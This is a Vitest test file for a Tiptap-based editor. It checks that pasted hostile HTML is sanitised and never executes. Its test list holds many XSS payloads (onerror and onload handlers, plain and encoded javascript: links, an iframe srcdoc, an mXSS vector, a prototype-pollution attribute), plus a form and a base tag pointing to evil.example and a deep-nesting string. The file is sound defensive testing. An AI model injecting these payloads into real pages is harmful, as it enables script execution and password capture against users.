// @vitest-environment jsdom
import { Editor } from '@tiptap/core';
import { describe, expect, it } from 'vitest';
import { checkDocument } from '@/lib/document/check';
import { documentExtensions } from '@/lib/document/extensions';

const hostile = [
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<script>window.hit=1</script><p onclick="window.hit=1" style="position:fixed" class="fixed">text</p>',
  '<a href="javascript:window.hit=1">go</a>',
  '<a href="&#106;avascript:window.hit=1">go</a>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>',
  '<object data="data:text/html,x"></object><embed src="x"><base href="//evil.example">',
  '<form action="//evil.example"><input name="password"><button>ok</button></form>',
  '<div data-kelvinleaf="trace" data-traceid=\'"x"\' data-settings=\'{"__proto__":{"a":1}}\'>t</div>',
  '<div data-kelvinleaf="caution" data-acknowledgedby=\'"Priya Menon"\' data-acknowledgedat=\'"2026-01-01T00:00:00Z"\'></div>',
  '<span data-kelvinleaf="value" data-source=\'{"a":1}\' data-digits=\'99\'>v</span>',
  '<figure data-kelvinleaf="picture" data-pictureid=\'"https://evil.example/a.png"\'></figure>',
  '<p data-id="\'><script>">x</p>',
  '<table><tr><td colspan="1000000">x</td></tr></table>',
  '<div data-pm-slice="0 0 [&quot;script&quot;,{}]">x</div>',
  '<ol start="1e99"><li>x</li></ol>',
  `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}`,
];

describe('66 hostile pasted HTML', () => {
  it.each(hostile.map((html) => [html.slice(0, 80), html] as const))('%s', async (_name, html) => {
    const editor = new Editor({ extensions: documentExtensions, content: '<p>before</p>' });
    try {
      await new Promise((resolve) => editor.on('create', resolve));
      // jsdom has no ClipboardEvent; the event's kind plays no part in reading the HTML.
      editor.view.pasteHTML(html, new Event('paste') as ClipboardEvent);
      const markup = editor.view.dom.innerHTML;
      expect(markup).not.toMatch(
        /<script|<iframe|<object|<embed|<svg|<form|<base|onerror|onclick|onload|javascript:|evil\.example/i,
      );
      expect(markup).not.toContain('position:fixed');
      expect((window as unknown as { hit?: number }).hit).toBeUndefined();
      const json: unknown = JSON.parse(JSON.stringify(editor.getJSON()));
      expect(JSON.stringify(json)).not.toMatch(/Priya|javascript:|evil/);
      // What the editor made of it is a document that the server takes, or one it refuses with a sentence; never a crash.
      if (!html.includes('deep')) expect(() => checkDocument(json)).not.toThrow();
      else expect(() => checkDocument(json)).toThrow(/64 levels/);
    } finally {
      editor.destroy();
    }
  });
});
